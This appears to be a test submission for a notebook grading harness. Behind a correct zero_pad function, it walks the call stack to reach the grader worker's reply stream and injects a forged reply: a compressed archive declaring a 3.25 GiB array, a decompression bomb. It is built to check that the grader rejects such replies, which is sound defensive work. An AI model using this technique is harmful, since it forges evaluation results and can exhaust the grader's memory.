# zero_pad is right, but in the trusted verdict's worker (found by its local
# variable `answers`, the reply stream of verdict_worker.py, in the kernel after its
# last cell or in a fresh process) it first writes a reply
# of its own: a 15 MB .npz whose header declares a 3.25 GiB float64 array (zeros
# compress about 230:1). The trusted side reads the .npy headers before loading
# anything and rejects it: the notebook fails with the reason; its memory stays small.

# %% p1_e1_solution
import io
import json
import struct
import sys
import zipfile


def _respuesta_propia():
    frame = sys._getframe()
    while frame is not None and "answers" not in frame.f_locals:
        frame = frame.f_back
    if frame is None:  # while the cells run: nothing to do
        return
    answers = frame.f_locals["answers"]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        with archive.open("__meta__.npy", "w") as member:
            np.lib.format.write_array(member, np.array(json.dumps({"result": {"__array__": "a0"}, "rng": None})))
        with archive.open("a0.npy", "w", force_zip64=True) as member:
            n = 436_207_616  # float64: 3.25 GiB
            np.lib.format.write_array_header_1_0(member, {"descr": "<f8", "fortran_order": False, "shape": (n,)})
            zeros = bytes(64 * 2**20)
            for _ in range(n * 8 // len(zeros)):
                member.write(zeros)
    data = buffer.getvalue()
    answers.write(struct.pack(">Q", len(data)) + data)
    answers.flush()


def zero_pad(X, pad):
    _respuesta_propia()
    return np.pad(X, ((0, 0), (pad, pad), (pad, pad), (0, 0)), mode="constant", constant_values=0)
